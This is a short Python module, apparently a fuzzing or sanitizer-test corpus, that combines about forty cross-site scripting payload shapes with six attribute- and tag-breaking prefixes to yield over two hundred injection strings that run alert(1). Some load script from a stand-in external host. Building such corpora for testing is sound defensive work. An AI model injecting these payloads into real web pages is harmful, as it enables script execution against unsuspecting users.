"""What somebody may write to make a page run it: shapes, each in several disguises."""

from __future__ import annotations

from collections.abc import Iterator

HACE = "alert(1)"
FORMAS = (
    "<script>{x}</script>", "<ScRiPt>{x}</sCrIpT>", "<script/src=data:,{x}></script>",
    "<script src=//x.test/a.js></script>",
    "<img src=x onerror={x}>", "<img/src/onerror={x}>", "<IMG SRC=javascript:{x}>", "<svg onload={x}>",
    "<svg><script>{x}</script></svg>", "<svg><animate onbegin={x} attributeName=x dur=1s>", "<body onload={x}>",
    "<iframe src=javascript:{x}></iframe>", "<iframe srcdoc='<script>parent.{x}</script>'></iframe>",
    "<details open ontoggle={x}>", "<input autofocus onfocus={x}>", "<video><source onerror={x}></video>",
    "<audio src=x onerror={x}>", "<marquee onstart={x}>", "<object data=javascript:{x}>", "<embed src=javascript:{x}>",
    "<a href=javascript:{x}>clic</a>", "<a href='data:text/html,<script>{x}</script>'>clic</a>",
    "<form action=javascript:{x}><button>enviar</button></form>", "<math><mtext><img src onerror={x}></math>",
    "<style>*{{background:url(javascript:{x})}}</style>", "<link rel=stylesheet href=javascript:{x}>",
    "<meta http-equiv=refresh content='0;url=javascript:{x}'>", "<base href=//x.test/>",
    "<template><img src=x onerror={x}></template>",
    "<div hx-get=/salir hx-trigger=load>x</div>", "<div hx-on:load={x} hx-on::load={x}>x</div>",
    "<button popovertarget=p onclick={x}>x</button>", "<noscript><p title='</noscript><img src=x onerror={x}>'>",
    "{{{{ {x} }}}}", "{{% {x} %}}", "${{{x}}}", "javascript:{x}",
    "&lt;img src=x onerror={x}&gt;", "&#60;script&#62;{x}",
    "\\u003cscript\\u003e{x}", "<!--<img src=x onerror={x}>-->", "<![CDATA[<img src=x onerror={x}>]]>",
)  # fmt: skip
DISFRACES = ("{f}", '">{f}', "'>{f}", "</textarea></title>{f}", "\u202e{f}\u200b", 'x" {f} autofocus x="')


def todos() -> Iterator[str]:
    """Yield more than two hundred texts."""
    for forma in FORMAS:
        for disfraz in DISFRACES:
            yield disfraz.format(f=forma.format(x=HACE))
